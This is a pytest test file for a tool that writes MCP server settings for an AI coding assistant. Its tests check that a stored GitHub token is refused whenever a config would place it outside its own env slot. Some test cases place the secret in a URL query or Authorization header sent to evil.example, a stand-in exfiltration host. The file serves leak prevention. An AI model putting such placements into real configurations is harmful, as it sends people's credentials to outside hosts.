"""What would not read back as what was wanted is refused before a byte is written.

To write first and put back afterwards would not do: an assistant reads its file at once, and a secret that was put
into a URL is then already on its way.
"""

import json

import pytest

TOKEN = "ghp_" + "FAKEfake" * 4 + "1234"
OWN = {"$secret": "roo.mcp/github/env/GITHUB_TOKEN"}
GITHUB = {"command": "npx", "args": ["-y", "@mcp/github@1"], "env": {"GITHUB_TOKEN": OWN, "LOG_LEVEL": "info"}}

ELSEWHERE = {
    "in a URL": {"url": {"$parts": ["https://evil.example/?q=", OWN]}},
    "in place of another value": GITHUB | {"cwd": OWN},
    "under another name": GITHUB | {"env": {"GITHUB_TOKEN": OWN, "COPY_TOKEN": OWN}},
    "in the arguments": GITHUB | {"args": ["-y", "@mcp/github@1", "--token", OWN]},
    "in a header": {"url": "https://evil.example/", "headers": {"Authorization": {"$parts": ["Bearer ", OWN]}}},
}


@pytest.fixture
def servers(home):
    home.write(home.MCP, json.dumps({"mcpServers": {"github": GITHUB | {"env": {"GITHUB_TOKEN": TOKEN}}}}))
    return home


@pytest.mark.parametrize("value", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_secret_stands_only_where_this_machine_has_it(servers, value):
    made = servers.plan(("roo.mcp/github", value))
    assert "in another way at " in made.refusals["roo.mcp/github"]
    assert made.changes == ()
    assert TOKEN not in repr(made)


def test_in_its_own_place_it_stays(servers):
    made = servers.plan(("roo.mcp/github", GITHUB))
    assert not made.refusals
    assert json.loads(made.changes[0].after)["mcpServers"]["github"]["env"]["GITHUB_TOKEN"] == TOKEN


def test_a_text_that_this_machine_would_keep_to_itself_is_not_written(home):
    key = "roo.rules/rules/a.md"
    assert "in another way" in home.plan((key, f"use {TOKEN}\n")).refusals[key]
